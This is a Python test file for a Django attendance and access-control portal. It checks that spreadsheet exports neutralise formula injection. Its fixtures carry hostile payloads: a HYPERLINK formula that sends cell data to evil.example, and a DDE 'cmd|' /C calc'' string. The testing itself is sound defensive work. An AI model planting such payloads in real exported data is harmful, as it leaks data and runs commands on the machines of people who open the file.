"""Names, IDs, departments, doors, zones and visitors go out as inert text, never as spreadsheet formulas:
every export (the report CSV/XLSX, the attendance CSV, the monthly summary XLSX, the access log CSV/XLSX)
passes its cells through portal.core.spreadsheets.spreadsheet_safe."""

import csv
import io
from datetime import UTC, datetime, timedelta

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from portal.access.models import AccessEvent, Door, Zone
from portal.access.services import access_attempt_decide
from portal.access.visitors import visitor_register
from portal.accounts.roles import HR, SECURITY
from portal.attendance.services import attendance_days_close
from portal.core.spreadsheets import spreadsheet_safe
from portal.people.models import Department, Person
from tests import photos
from tests.factories import make_user
from tests.portal.access.helpers import door_with_kiosk, grant
from tests.portal.reports.conftest import week  # noqa: F401 (fixture)

pytestmark = pytest.mark.django_db
WEEK = {"date_from": "2026-03-02", "date_to": "2026-03-08"}
EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def poisoned(week):  # noqa: F811
    obama, biden = week
    Person.objects.filter(pk=obama.pk).update(name=EVIL_NAME, employee_id="+1042")
    Person.objects.filter(pk=biden.pk).update(name="@SUM(1+1)", employee_id="-17")
    Department.objects.filter(name="Office").update(name="\tcmd|' /C calc'!A0")
    return obama, biden


@pytest.fixture
def hr(client):
    client.force_login(make_user("hr", role=HR))
    return client


def download(client, fmt):
    response = client.get(reverse("report-export", args=[fmt]), WEEK)
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_spreadsheet_safe_prefixes_every_formula_start_and_nothing_else():
    for start in "=+-@\t\r":
        assert spreadsheet_safe(start + "x") == "'" + start + "x"
    assert spreadsheet_safe("Barack Obama") == "Barack Obama"
    assert spreadsheet_safe(-3) == -3  # numbers stay numbers


def test_csv_report_neutralizes_formulas(hr, poisoned):
    rows = list(csv.reader(io.StringIO(download(hr, "csv").decode())))
    cells = [cell for row in rows[1:-1] for cell in row[1:4]]
    assert "'" + EVIL_NAME in cells and "'@SUM(1+1)" in cells and "'+1042" in cells and "'-17" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_xlsx_report_has_no_live_formula(hr, poisoned):
    book = openpyxl.load_workbook(io.BytesIO(download(hr, "xlsx")))
    sheet = book.active
    values = [cell for row in sheet.iter_rows(min_row=2, max_row=sheet.max_row - 1) for cell in row[1:4]]
    assert all(cell.data_type != "f" for cell in values)
    texts = {cell.value for cell in values}
    assert "'" + EVIL_NAME in texts and "'@SUM(1+1)" in texts and "'+1042" in texts


def test_attendance_csv_neutralizes_formulas(hr, poisoned):
    response = hr.get(reverse("attendance-csv"))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows[1:] for cell in row[1:4]]
    assert cells and not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert "'" + EVIL_NAME in cells


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def no_formula_in(cells):
    cells = [c for c in cells if isinstance(c, str)]
    live = [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert cells and not live, live


def test_monthly_summary_xlsx_has_no_live_formula(hr, poisoned):
    attendance_days_close(now=datetime(2026, 3, 9, 0, 5, tzinfo=UTC), lookback_days=10)
    response = hr.get(reverse("reports-monthly-export", args=["xlsx"]), {"month": "2026-03"})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    values = {cell.value for cell in cells}
    assert "'" + EVIL_NAME in values and "'@SUM(1+1)" in values and "'+1042" in values and "'-17" in values
    # openpyxl writes a text starting with = as a formula; the grid's own symbols ("+": overtime) are ours
    assert not any(isinstance(v, str) and v.startswith("=") for v in values)


@pytest.fixture
def poisoned_log(client):
    """An access log whose door, zone, person, employee ID and visitor were all typed as formulas."""
    door, kiosk, _ = door_with_kiosk("=cmd|' /C calc'!A0", zone="+Zone")
    Zone.objects.filter(pk=door.zone_id).update(name="+SUM(9)")
    door = Door.objects.select_related("zone").get(pk=door.pk)
    person = make_person_raw(EVIL_NAME, "@1042")
    grant(person, doors=[door], any_time=True, closed_on_holidays=False)
    at = datetime(2026, 3, 2, 9, tzinfo=UTC)
    access_attempt_decide(door=door, side="entry", at=at, person=person, kiosk=kiosk)
    host = make_person_raw("Host", "host")
    now = timezone.now()
    visitor = visitor_register(
        name="-2+3", host=host, doors=[door], valid_from=now, valid_until=now + timedelta(hours=2),
        photo=photos.read(photos.OBAMA_2), any_door=True,
    )  # fmt: skip
    access_attempt_decide(door=door, side="entry", at=now, person=visitor.person, kiosk=kiosk)
    assert AccessEvent.objects.count() == 2
    client.force_login(make_user("guard", role=SECURITY))
    return client


def make_person_raw(name, employee_id):
    from tests.factories import make_person

    return make_person(name, employee_id=employee_id)


def test_access_log_csv_neutralizes_formulas(poisoned_log):
    body = b"".join(poisoned_log.get(reverse("access-log-export", args=["csv"]))).decode().lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(body)))
    cells = [cell for row in rows[1:] for cell in row]
    no_formula_in(cells)
    assert "'" + EVIL_NAME in cells and "'+SUM(9)" in cells and "'-2+3" in cells and "'@1042" in cells


def test_access_log_xlsx_has_no_live_formula(poisoned_log):
    response = poisoned_log.get(reverse("access-log-export", args=["xlsx"]))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    values = [cell.value for cell in cells]
    no_formula_in(values)
    assert "'" + EVIL_NAME in values and "'=cmd|' /C calc'!A0" in values
